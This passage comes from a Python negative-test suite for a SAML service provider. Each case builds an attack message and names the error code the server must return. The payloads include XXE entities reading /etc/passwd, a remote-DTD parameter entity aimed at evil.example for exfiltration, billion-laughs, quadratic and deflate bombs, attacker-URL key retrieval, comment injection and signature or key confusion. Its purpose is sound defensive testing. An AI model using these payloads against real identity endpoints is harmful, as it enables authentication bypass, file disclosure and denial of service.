    """A SHA-1 reference digest (DP §8: SHA-256 or stronger)."""
    return _resign(ctx, d, digest_transform=T.SHA1)


@case("sig-rsa-md5-algorithm-uri", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
def _sig_md5(ctx, d):
    """SignatureMethod rsa-md5; the algorithm is refused before any crypto."""
    return _after_signing(
        ctx,
        d,
        lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set(
            "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
        ),
    )


@case("sig-hmac-sha256-key-confusion", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
def _sig_hmac(ctx, d):
    """SignatureMethod hmac-sha256: a verifier that used the public key as the HMAC secret would accept anyone's signature."""
    return _after_signing(
        ctx,
        d,
        lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set(
            "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
        ),
    )


@case("sig-content-changed-after-signing", "signature", ErrorCode.SIGNATURE_INVALID)
def _sig_changed(ctx, d):
    """The signed Response's InResponseTo changed after signing (a one-attribute edit)."""
    return _after_signing(ctx, d, lambda r: r.set("InResponseTo", r.get("InResponseTo") + "0"))


@case("sig-signature-value-replaced", "signature", ErrorCode.SIGNATURE_INVALID)
def _sig_value(ctx, d):
    """The SignatureValue replaced by well-formed base64 that is not a signature."""
    return _after_signing(
        ctx,
        d,
        lambda r: setattr(r.find("ds:Signature/ds:SignatureValue", NS), "text", base64.b64encode(b"\0" * 256).decode()),
    )


@case("sig-assertion-signed-by-attacker-in-good-response", "signature", ErrorCode.SIGNATURE_INVALID)
def _sig_bad_assertion(ctx, d):
    """A good Response signature over an assertion the attacker signed: a present assertion signature must verify too."""
    return signed(ctx, d, sign_assertion=False, mutate_assertion=lambda a: custom_sign(a, ctx.keys.attacker_key))


# ---------------------------------------------------------------- key confusion


@case("key-keyvalue-with-attackers-key", "keyinfo", ErrorCode.SIGNATURE_KEYINFO_FORBIDDEN)
def _key_attacker_keyvalue(ctx, d):
    """Signed by the attacker, whose public key is in KeyInfo/KeyValue (CVE-2021-21239)."""
    return _resign(ctx, d, ctx.keys.attacker_key, key_value=True)


@case("key-keyvalue-with-idps-key", "keyinfo", ErrorCode.SIGNATURE_KEYINFO_FORBIDDEN)
def _key_idp_keyvalue(ctx, d):
    """Even the IdP's own signature is refused with a KeyValue: keys come from metadata only."""
    return _resign(ctx, d, key_value=True)


@case("key-attackers-certificate-in-keyinfo", "keyinfo", ErrorCode.SIGNATURE_INVALID)
def _key_attacker_cert(ctx, d):
    """Signed by the attacker with their certificate in X509Data: the certificate is ignored, the metadata key does not verify."""
    return _resign(ctx, d, ctx.keys.attacker_key, key_info_cert=ctx.keys.attacker_cert)


@case("key-retrieval-method-in-keyinfo", "keyinfo", ErrorCode.SIGNATURE_KEYINFO_FORBIDDEN)
def _key_retrieval(ctx, d):
    """A KeyInfo RetrievalMethod pointing at an attacker's URL (key fetched at verification time)."""

    def add(r):
        key_info = r.find("ds:Signature/ds:KeyInfo", NS)
        if key_info is None:
            key_info = etree.SubElement(r.find("ds:Signature", NS), DS + "KeyInfo")
        etree.SubElement(
            key_info,
            DS + "RetrievalMethod",
            URI=EVIL + "/key.der",
            Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
        )

    return _after_signing(ctx, d, add)


@case("key-der-encoded-key-value", "keyinfo", ErrorCode.SIGNATURE_KEYINFO_FORBIDDEN)
def _key_der(ctx, d):
    """A dsig11:DEREncodedKeyValue (the attacker's raw public key) in KeyInfo."""

    def add(r):
        key_info = etree.SubElement(r.find("ds:Signature", NS), DS + "KeyInfo")
        spki = ctx.keys.attacker_cert.cert.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        der = base64.b64encode(spki).decode()
        etree.SubElement(key_info, "{http://www.w3.org/2009/xmldsig11#}DEREncodedKeyValue").text = der

    return _after_signing(ctx, d, add)


@case("key-attacker-entity-not-in-metadata", "keyinfo", ErrorCode.ISSUER_UNKNOWN)
def _key_self_issued(ctx, d):
    """A Response from the attacker's own entityID with their own key and certificate: not a trusted IdP."""
    return _resign(
        ctx, d, ctx.keys.attacker_key, key_info_cert=ctx.keys.attacker_cert, spec_overrides={"issuer": EVIL + "/idp"}
    )


# ---------------------------------------------------------------- comment injection (CVE-2017-11427)


def _split_with(node_factory):
    def split(element: etree._Element) -> None:
        text = element.text or ""
        element.text = text[: len(text) // 2]
        node = node_factory()
        element.append(node)
        node.tail = text[len(text) // 2 :]

    return split


_COMMENT = _split_with(lambda: etree.Comment(""))


def _in_attribute(name: str, change):
    def mutate(a):
        for attribute in a.iter(A + "Attribute"):
            if attribute.get("Name") == name:
                change(attribute.find("saml:AttributeValue", NS))

    return mutate


@case("comment-in-nameid", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_nameid(ctx, d):
    """A comment inside NameID: a parser reading only .text gets a truncated, different name."""
    return signed(ctx, d, mutate_assertion=lambda a: _COMMENT(a.find("saml:Subject/saml:NameID", NS)))


@case("comment-in-personal-identity-number", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_pnr(ctx, d):
    """1975<!---->12249819 style: a comment inside personalIdentityNumber; the whole value is read or the message refused."""
    return signed(ctx, d, mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _COMMENT))


@case("comment-in-org-affiliation", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_org(ctx, d):
    """A comment inside orgAffiliation (uid@orgnr), which would shift the scope read by a truncating parser."""
    return signed(ctx, d, "expisoft", mutate_assertion=_in_attribute(ORG_AFFILIATION, _COMMENT))


@case("comment-in-issuer", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_issuer(ctx, d):
    """A comment inside the Response's Issuer, inserted after signing (exc-c14n drops comments, so the digest still matches)."""
    return _after_signing(ctx, d, lambda r: _COMMENT(r.find("saml:Issuer", NS)))


@case("comment-in-audience", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_audience(ctx, d):
    """A comment inside Audience."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: _COMMENT(a.find("saml:Conditions/saml:AudienceRestriction/saml:Audience", NS)),
    )


@case("comment-in-authn-context-class-ref", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _comment_loa(ctx, d):
    """A comment inside AuthnContextClassRef (the LoA)."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: _COMMENT(
            a.find("saml:AuthnStatement/saml:AuthnContext/saml:AuthnContextClassRef", NS)
        ),
    )


@case("processing-instruction-in-personal-identity-number", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _pi_pnr(ctx, d):
    """A processing instruction splitting personalIdentityNumber, the same truncation by another node type."""
    return signed(
        ctx,
        d,
        mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.ProcessingInstruction("x"))),
    )


@case("element-in-personal-identity-number", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
def _element_pnr(ctx, d):
    """An element splitting personalIdentityNumber."""
    return signed(
        ctx, d, mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.Element(A + "x")))
    )


# ---------------------------------------------------------------- parser input

XXE_FILE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0">&x;</samlp:Response>'
XXE_PARAMETER = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><r/>'
DTD_EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE samlp:Response PUBLIC "-//evil//x" "https://evil.example/saml.dtd"><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())] * 10))
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"A" * 20000 + b'">]><q>' + b"&a;" * 5000 + b"</q>"


def _raw(xml: bytes | None, *, saml_response: str | None = None, seeded: bool = True):
    """A case posting ``xml`` (or a given field value) against a seeded request, unsigned."""

    def build(ctx, d):
        seed = ctx.seed(d.name) if seeded else None
        result = acs_case(ctx, d, xml, seed)
        if saml_response is not None:
            result["form"]["SAMLResponse"] = saml_response
        return result

    return build


def _register_raw(name, group, code, doc, xml=None, **kw):
    build = _raw(xml, **kw)
    build.__doc__ = doc
    case(name, group, code)(build)


_register_raw(
    "parser-doctype-internal-subset",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "A DOCTYPE with an internal entity declaration: no DTD at all is accepted.",
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>',
)
_register_raw(
    "parser-xxe-external-file-entity",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "XXE: an external entity reading file:///etc/passwd into the Response.",
    XXE_FILE,
)
_register_raw(
    "parser-xxe-parameter-entity-remote-dtd",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "XXE: a parameter entity loading a remote DTD (out-of-band exfiltration).",
    XXE_PARAMETER,
)
_register_raw(
    "parser-doctype-external-public-dtd",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "A DOCTYPE naming a remote DTD (network access at parse time).",
    DTD_EXTERNAL,
)
_register_raw(
    "parser-billion-laughs",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "Billion laughs: nested entities expanding to 10^9 bytes.",
    BILLION_LAUGHS,
)
_register_raw(
    "parser-quadratic-blowup",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "Quadratic blowup: one 20 kB entity referenced 5,000 times (no nesting to detect).",
    QUADRATIC,
)
_register_raw(
    "parser-billion-laughs-in-utf16",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "Billion laughs in UTF-16: the prolog is decoded before the DOCTYPE search, so libxml2 never reads the DTD.",
    BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16"),
)
_register_raw(
    "parser-doctype-in-utf16",
    "parser",
    ErrorCode.XML_DTD_FORBIDDEN,
    "A DOCTYPE in a UTF-16 document with an XML declaration: found in the decoded prolog, before parsing.",
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r/>'.encode("utf-16"),
)
_register_raw(
    "parser-deeply-nested-elements",
    "parser",
    ErrorCode.XML_TOO_MANY_NODES,
    "10,000 nested elements (stack exhaustion in recursive code): over the node cap, refused before parsing.",
    b"<a>" * 10000 + b"</a>" * 10000,
)
_register_raw(
    "parser-not-well-formed", "parser", ErrorCode.XML_MALFORMED, "An unterminated start tag.", b"<samlp:Response"
)
_register_raw(
    "parser-binary-garbage",
    "parser",
    ErrorCode.XML_MALFORMED,
    "Base64 of bytes that are not XML.",
    bytes(range(256)) * 4,
)
_register_raw(
    "parser-oversized-response",
    "parser",
    ErrorCode.RESPONSE_TOO_LARGE,
    "A SAMLResponse of 1 MiB: refused by its length before it is decoded.",
    saml_response="A" * (1024 * 1024),
)
_register_raw(
    "parser-oversized-by-one-character",
    "parser",
    ErrorCode.RESPONSE_TOO_LARGE,
    "A SAMLResponse one character over the cap.",
    saml_response="A" * (MAX_RESPONSE_BYTES + 1),
)
_register_raw(
    "parser-non-base64-characters",
    "parser",
    ErrorCode.RESPONSE_NOT_BASE64,
    "Characters outside the base64 alphabet.",
    saml_response="PHNhbWxwOlJlc3BvbnNl*!$",
)
_register_raw(
    "parser-base64-url-safe-alphabet",
    "parser",
    ErrorCode.RESPONSE_NOT_BASE64,
    "The URL-safe alphabet (- and _), which lenient decoders map or drop.",
    saml_response="PD94bWwg-_-_",
)
_register_raw(
    "parser-base64-bad-padding",
    "parser",
    ErrorCode.RESPONSE_NOT_BASE64,
    "Base64 with its padding cut off.",
    saml_response="PHNhbWxwOlJlc3BvbnNlLz4",
)
_register_raw(
    "parser-empty-response", "parser", ErrorCode.RESPONSE_MISSING, "An empty SAMLResponse field.", saml_response=""
)
_register_raw(
    "parser-not-a-response-authn-request",
    "parser",
    ErrorCode.NOT_A_RESPONSE,
    "An AuthnRequest posted to the ACS.",
    f'<samlp:AuthnRequest xmlns:samlp="{NS["samlp"]}" ID="_x" Version="2.0"/>'.encode(),
)
_register_raw(
    "parser-response-version-1-1",
    "parser",
    ErrorCode.NOT_A_RESPONSE,
    "A Response claiming Version 1.1.",
    f'<samlp:Response xmlns:samlp="{NS["samlp"]}" ID="_x" Version="1.1"/>'.encode(),
)


@case("parser-no-saml-response-field", "parser", ErrorCode.RESPONSE_MISSING)
def _parser_no_field(ctx, d):
    """A POST without a SAMLResponse field at all."""
    seed = ctx.seed(d.name)
    return dict(form={"RelayState": seed.relay_state}, seed=seed)


@case("parser-deflated-response-posted-to-acs", "parser", ErrorCode.XML_MALFORMED)
def _parser_deflated(ctx, d):
    """A Redirect-encoded (deflated) signed Response posted to the HTTP-POST ACS: never inflated here, so never a bomb."""
    seed = ctx.seed(d.name)
    xml = tostring(_captured(ctx, seed))
    return acs_case(ctx, d, xml, seed, form={"SAMLResponse": encode_message(xml)})


@case("parser-doctype-before-signed-response", "parser", ErrorCode.XML_DTD_FORBIDDEN)
def _parser_doctype_signed(ctx, d):
    """A DOCTYPE prepended to a validly signed Response (the signature does not cover the prolog)."""
    return _captured_edited(ctx, d, lambda xml: b'<!DOCTYPE samlp:Response [<!ENTITY x "y">]>' + xml)


@case("parser-logout-response-posted-to-acs", "parser", ErrorCode.NOT_A_RESPONSE)
def _parser_logout(ctx, d):
    """A signed LogoutResponse (another message type from the same IdP) posted to the ACS."""
    seed = ctx.seed(d.name)
    root = etree.Element(
        P + "LogoutResponse",
        nsmap={"samlp": NS["samlp"], "saml": NS["saml"]},
        ID="_lr" + seed.request_id[1:20],
        Version="2.0",
        IssueInstant=instant(ctx.now),
        Destination=ACS_URL,
        InResponseTo=seed.request_id,
    )
    etree.SubElement(root, A + "Issuer").text = BANKID_IDP
    etree.SubElement(
        etree.SubElement(root, P + "Status"), P + "StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success"
    )
    custom_sign(root, ctx.keys.idp_key)
    return acs_case(ctx, d, tostring(root), seed)


# ---------------------------------------------------------------- cost: bounded work before any signature verifies
#
# A forged Response must be refused in about the time of a valid one
# (tests/attacks/adversarial.py; `make bench` times these shapes).  Each
# shape is as large as the SAMLResponse cap allows.  The caps on the
# document's shape (ekn_saml.security.max_xml_*) refuse most of them before
# parsing or right after; the rest reach the signature, whose SignedInfo is
# checked before any digest of the (big) Response is made.


def _cost(build_message):
    def build(ctx, d):
        seed = ctx.seed(d.name)
        return acs_case(ctx, d, build_message(ctx, seed), seed)

    return build


def _register_cost(name, code, doc, build_message):
    build = _cost(build_message)
    build.__doc__ = doc
    case(name, "cost", code)(build)


_register_cost(
    "cost-sorted-attributes",
    ErrorCode.XML_TOO_MANY_NODES,
    "The reported attack: a forged SignatureValue and ~17,000 attributes on the root, in sorted order (quadratic to canonicalise); counted on the bytes, refused before parsing.",
    lambda ctx, seed: adversarial.sorted_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES),
)
_register_cost(
    "cost-namespaced-attributes",
    ErrorCode.XML_TOO_MANY_NODES,
    "As cost-sorted-attributes with namespaced attributes, which the schema allows, so a schema check first would not stop it.",
    lambda ctx, seed: adversarial.namespaced_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES),
)
_register_cost(
    "cost-namespace-declarations",
    ErrorCode.XML_TOO_MANY_NODES,
    "A forged SignatureValue and ~7,000 namespace declarations on the root; refused before parsing.",
    lambda ctx, seed: adversarial.namespace_declarations(_captured(ctx, seed), MAX_RESPONSE_BYTES),
)
_register_cost(
    "cost-deep-nesting",
    ErrorCode.XML_TOO_MANY_NODES,
    "A forged SignatureValue and elements nested as deep as the cap on the Response's size allows; refused before parsing.",
    lambda ctx, seed: adversarial.deep_nesting(_captured(ctx, seed), MAX_RESPONSE_BYTES),
)
_register_cost(
    "cost-many-signatures",
    ErrorCode.XML_TOO_MANY_NODES,
    "The Response's Signature repeated beside itself as often as the size cap allows; refused before parsing.",
    lambda ctx, seed: adversarial.many_signatures(_captured(ctx, seed), MAX_RESPONSE_BYTES),
)
_register_cost(
    "cost-attributes-on-one-element",
    ErrorCode.XML_TOO_MANY_ATTRIBUTES,
    "1,500 attributes on the root, under the node cap: the per-element cap refuses them right after parsing, before any canonicalisation.",
    lambda ctx, seed: adversarial.sorted_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=1_500),
)
_register_cost(
    "cost-namespace-declarations-under-node-cap",
    ErrorCode.XML_TOO_MANY_NAMESPACES,
    "300 namespace declarations on the root, under the node cap: the declaration cap refuses them before any canonicalisation.",
    lambda ctx, seed: adversarial.namespace_declarations(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=300),
)
_register_cost(
    "cost-deep-nesting-under-node-cap",
    ErrorCode.XML_TOO_DEEP,
    "Elements nested 200 deep, under the node cap (libxml2 would parse up to 256): the depth cap refuses them.",
    lambda ctx, seed: adversarial.deep_nesting(_captured(ctx, seed), MAX_RESPONSE_BYTES, depth=200),
)
_register_cost(
    "cost-many-signatures-under-node-cap",
    ErrorCode.SIGNATURE_PROFILE_VIOLATION,
    "The Response's Signature three times beside itself, under every cap: more than one Signature is a profile violation, found before any cryptography.",
    lambda ctx, seed: adversarial.many_signatures(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=3),
)
_register_cost(
    "cost-forged-signature-idp-with-several-keys",
    ErrorCode.SIGNATURE_INVALID,
    "A forged SignatureValue from an IdP with six signing keys in metadata, the body grown to just under the node cap: each key checks the small SignedInfo only; no digest of the body is made.",
    lambda ctx, seed: adversarial.grown_body(
        ctx.idp.build(ctx.spec(seed, issuer=MULTIKEY_IDP)), MAX_RESPONSE_BYTES, 1_900, forge=True
    ),
)
_register_cost(
    "cost-captured-signature-grown-body",
    ErrorCode.SIGNATURE_INVALID,
    "A Response the IdP really signed (the attacker's own login), its body grown after signing to just under the node cap: SignedInfo verifies, the one digest of the grown body does not match. The most work an anonymous POST can cause.",
    lambda ctx, seed: adversarial.grown_body(_captured(ctx, seed), MAX_RESPONSE_BYTES, 1_900, forge=False),
)


# ---------------------------------------------------------------- the Redirect binding (ekn_saml.redirect_binding)


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


_LOGOUT_REQUEST = (
    f'<samlp:LogoutRequest xmlns:samlp="{NS["samlp"]}" xmlns:saml="{NS["saml"]}" ID="_lr1" Version="2.0" '
    f'IssueInstant="2026-11-28T00:00:00Z"><saml:Issuer>{BANKID_IDP}</saml:Issuer><saml:NameID>x</saml:NameID></samlp:LogoutRequest>'
).encode()
_REDIRECT_CASES = [
    (
        "redirect-deflate-bomb",
        ErrorCode.INFLATED_TOO_LARGE,
        "A 13 kB value inflating to 10 MB of zeros; inflation stops at the cap.",
        lambda: encode_message(b"\0" * 10_000_000),
    ),
    (
        "redirect-deflate-bomb-of-xml",
        ErrorCode.INFLATED_TOO_LARGE,
        "A LogoutRequest padded with 5 MB of whitespace: well-formed XML, still over the cap.",
        lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b" " * 5_000_000 + b"<saml:NameID>")),
    ),
    (
        "redirect-oversized-value",
        ErrorCode.RESPONSE_TOO_LARGE,
        "A value over the encoded cap: refused before it is decoded.",
        lambda: "A" * (MAX_ENCODED_CHARS + 4),
    ),
    (
        "redirect-non-base64",
        ErrorCode.RESPONSE_NOT_BASE64,
        "Characters outside the base64 alphabet.",
        lambda: "not*base64!",
    ),
    (
        "redirect-base64-with-spaces",
        ErrorCode.RESPONSE_NOT_BASE64,
        "'+' sent unencoded and read back as spaces: not repaired, refused.",
        lambda: encode_message(_LOGOUT_REQUEST).replace("+", " ").replace("A", " ", 1),
    ),
    (
        "redirect-base64-url-safe",
        ErrorCode.RESPONSE_NOT_BASE64,
        "The URL-safe base64 alphabet.",
        lambda: encode_message(_LOGOUT_REQUEST).replace("+", "-").replace("/", "_") + "-_",
    ),
    (
        "redirect-not-deflated",
        ErrorCode.DEFLATE_INVALID,
        "Base64 of plain XML, not DEFLATE.",
        lambda: b64(_LOGOUT_REQUEST),
    ),
    (
        "redirect-zlib-header",
        ErrorCode.DEFLATE_INVALID,
        "A zlib stream (with header and checksum) instead of raw DEFLATE.",
        lambda: b64(zlib.compress(_LOGOUT_REQUEST)),
    ),
    (
        "redirect-trailing-bytes-after-stream",
        ErrorCode.DEFLATE_INVALID,
        "Bytes after the end of the DEFLATE stream (a second message for another parser).",
        lambda: b64(_raw_deflate(_LOGOUT_REQUEST) + b"<evil/>"),
    ),
    (
        "redirect-truncated-stream",
        ErrorCode.DEFLATE_INVALID,
        "A DEFLATE stream cut short.",
        lambda: b64(_raw_deflate(_LOGOUT_REQUEST)[:-8]),
    ),
    ("redirect-missing-message", ErrorCode.RESPONSE_MISSING, "No SAMLRequest parameter.", lambda: None),
    (
        "redirect-attributes-on-one-element",
        ErrorCode.XML_TOO_MANY_ATTRIBUTES,
        "A LogoutRequest with 1,000 attributes on its root, under the node cap: refused before any canonicalisation.",
        lambda: encode_message(
            _LOGOUT_REQUEST.replace(
                b' Version="2.0"', b' Version="2.0" ' + b" ".join(b'a%04d=""' % i for i in range(1000))
            )
        ),
    ),
    (
        "redirect-too-many-nodes",
        ErrorCode.XML_TOO_MANY_NODES,
        "A LogoutRequest with 10,000 empty elements (60 kB inflated): refused before parsing.",
        lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b"<x/>" * 10_000 + b"<saml:NameID>")),
    ),
    (
        "redirect-billion-laughs-inside",
        ErrorCode.XML_DTD_FORBIDDEN,
        "Billion laughs inside a valid DEFLATE stream: inflated within the cap, then refused by the parser.",
        lambda: encode_message(BILLION_LAUGHS),
    ),
    (
        "redirect-xxe-inside",
        ErrorCode.XML_DTD_FORBIDDEN,
        "An external entity inside a valid DEFLATE stream.",
        lambda: encode_message(XXE_FILE),
    ),
]
for _name, _code, _doc, _value in _REDIRECT_CASES:
    _b = (lambda value: lambda ctx, d: dict(query={} if value() is None else {"SAMLRequest": value()}))(_value)
    _b.__doc__ = _doc
    case(_name, "redirect-binding", _code, endpoint="redirect_binding")(_b)


# ---------------------------------------------------------------- encryption


@case("enc-unencrypted-assertion", "encryption", ErrorCode.ASSERTION_NOT_ENCRYPTED)
def _enc_plain(ctx, d):
    """A plain (signed) assertion where encryption is required (DP 6.1)."""
    return signed(ctx, d, encrypt=False)


@case("enc-encrypted-attribute", "encryption", ErrorCode.ENCRYPTED_ATTRIBUTE_FORBIDDEN)
def _enc_attr(ctx, d):
    """An EncryptedAttribute in the AttributeStatement (a second layer the SP does not open)."""
    return signed(
        ctx,
        d,
        mutate_assertion=lambda a: etree.SubElement(a.find("saml:AttributeStatement", NS), A + "EncryptedAttribute"),
    )


@case("enc-encrypted-id", "encryption", ErrorCode.ENCRYPTED_ID_FORBIDDEN)
def _enc_id(ctx, d):
    """An EncryptedID in the Subject."""
    return signed(ctx, d, mutate_assertion=lambda a: etree.SubElement(a.find("saml:Subject", NS), A + "EncryptedID"))


@case("enc-rsa-1_5-key-transport", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
def _enc_rsa15(ctx, d):
    """Key transport with RSA PKCS#1 v1.5 (Bleichenbacher padding oracle); refused before any decryption."""
    return signed(
        ctx,
        d,
        mutate_response=reencrypting(
            ctx.keys.sp_encryption_cert,
            data_transform=T.AES256,
            key_transform=T.RSA_PKCS1,
            issue_instant=instant(ctx.now),
        ),
    )


@case("enc-3des-data-encryption", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
def _enc_3des(ctx, d):
    """Data encrypted with 3DES-CBC."""
    return signed(
        ctx,
        d,
        mutate_response=reencrypting(
            ctx.keys.sp_encryption_cert, data_transform=T.DES3, key_transform=T.RSA_OAEP, issue_instant=instant(ctx.now)
        ),
    )


@case("enc-oaep-with-md5-digest", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
def _enc_md5(ctx, d):
    """RSA-OAEP key transport announcing an MD5 OAEP digest."""

    def md5(r):
        method = r.find("saml:EncryptedAssertion//xenc:EncryptedKey/xenc:EncryptionMethod", NS)
        for old in method.findall("ds:DigestMethod", NS):
            method.remove(old)
        etree.SubElement(method, DS + "DigestMethod", Algorithm="http://www.w3.org/2001/04/xmldsig-more#md5")

    return signed(ctx, d, mutate_response=md5)


@case("enc-key-we-do-not-hold", "encryption", ErrorCode.DECRYPTION_FAILED)
def _enc_wrong_key(ctx, d):
    """An assertion encrypted to another certificate than the SP's."""
    seed = ctx.seed(d.name)
    stranger = ResponseFactory(ctx.keys.idp_key, ctx.keys.idp_cert, ctx.keys.attacker_cert)
    return acs_case(ctx, d, tostring(stranger.build(ctx.spec(seed))), seed)


@case("enc-two-encrypted-data", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
def _enc_two_data(ctx, d):
    """Two EncryptedData in one EncryptedAssertion (which one is the assertion?): refused before any decryption."""

    def two(r):
        container = r.find("saml:EncryptedAssertion", NS)
        container.append(copy.deepcopy(container.find("xenc:EncryptedData", NS)))

    return signed(ctx, d, mutate_response=two)


def _cipher_reference(path: str):
    """mutate_response: the CipherValue at ``path`` replaced by a CipherReference to a local file."""

    def refer(r):
        cipher_data = r.find(path, NS)
        for child in list(cipher_data):
            cipher_data.remove(child)
        etree.SubElement(cipher_data, XENC + "CipherReference", URI="file:///etc/passwd")

    return refer


@case("enc-cipher-reference-in-encrypted-data", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
def _enc_cipher_reference_data(ctx, d):
    """The assertion's cipher text 'at' file:///etc/passwd (xmlsec would open the file): cipher text must be inline."""
    return signed(
        ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion/xenc:EncryptedData/xenc:CipherData")
    )


@case("enc-cipher-reference-in-encrypted-key", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
def _enc_cipher_reference_key(ctx, d):
    """The transported key 'at' file:///etc/passwd: the EncryptedKey's cipher text must be inline too."""
    return signed(
        ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion//xenc:EncryptedKey/xenc:CipherData")
    )


@case("enc-foreign-element-in-encrypted-assertion", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
def _enc_foreign_child(ctx, d):
    """A plain Assertion smuggled into the EncryptedAssertion beside its EncryptedData: only EncryptedData and EncryptedKey may be there."""

    def smuggle(r):
        container = r.find("saml:EncryptedAssertion", NS)
        etree.SubElement(container, A + "Assertion", ID="_smuggled", Version="2.0")

    return signed(ctx, d, mutate_response=smuggle)


@case("enc-ciphertext-altered-before-signing", "encryption", ErrorCode.DECRYPTION_FAILED)
def _enc_altered(ctx, d):
    """A broken AES-GCM ciphertext under a good signature: one code for every decryption failure (no padding oracle)."""

    def alter(r):
        values = r.findall("saml:EncryptedAssertion/xenc:EncryptedData/xenc:CipherData/xenc:CipherValue", NS)
        raw = bytearray(base64.b64decode(values[0].text))
        raw[-1] ^= 1
        values[0].text = base64.b64encode(bytes(raw)).decode()

    return signed(ctx, d, mutate_response=alter)


@case("enc-encrypted-element-is-a-response", "encryption", ErrorCode.ASSERTION_COUNT)
def _enc_response_inside(ctx, d):
    """The EncryptedAssertion decrypts to a samlp:Response, not a saml:Assertion."""
    return signed(ctx, d, mutate_response=_encrypted_instead(ctx, P + "Response"))


@case("enc-two-encrypted-assertions", "encryption", ErrorCode.ASSERTION_COUNT)
def _enc_two(ctx, d):
    """Two EncryptedAssertions in one signed Response."""

    def two(r):
        container = r.find("saml:EncryptedAssertion", NS)
        extra = copy.deepcopy(container)
        for el in extra.iter():
            if el.get("Id"):
                el.set("Id", el.get("Id") + "b")
        container.addnext(extra)

    return signed(ctx, d, mutate_response=two)


@case("enc-plain-and-encrypted-assertion", "encryption", ErrorCode.ASSERTION_COUNT)
def _enc_plain_and(ctx, d):
    """A plain unsigned assertion beside the encrypted one, both under the Response signature."""
    return signed(
        ctx,
        d,
        mutate_response=lambda r: r.find("saml:EncryptedAssertion", NS).addprevious(
            _evil_assertion(ctx, ctx.seed(d.name))
        ),
    )


@case("enc-success-without-assertion", "encryption", ErrorCode.ASSERTION_COUNT)
def _enc_none(ctx, d):
    """A signed success Response with no assertion at all."""
    return signed(ctx, d, mutate_response=lambda r: r.remove(r.find("saml:EncryptedAssertion", NS)))


# ---------------------------------------------------------------- addressing (checklist 5, 6)

_simple(
    "adr-destination-missing",
    "addressing",
    ErrorCode.DESTINATION_MISSING,
    "A signed Response without Destination (required when signed, DP 6.3.2).",
    destination=None,
)
_simple("adr-destination-empty", "addressing", ErrorCode.DESTINATION_MISSING, 'Destination="".', destination="")
_simple(
    "adr-destination-other-host",
    "addressing",
    ErrorCode.DESTINATION_MISMATCH,
    "A Response addressed to another SP's ACS, forwarded here.",
    destination=EVIL + "/saml/acs",
)
_simple(
    "adr-destination-trailing-slash",
    "addressing",
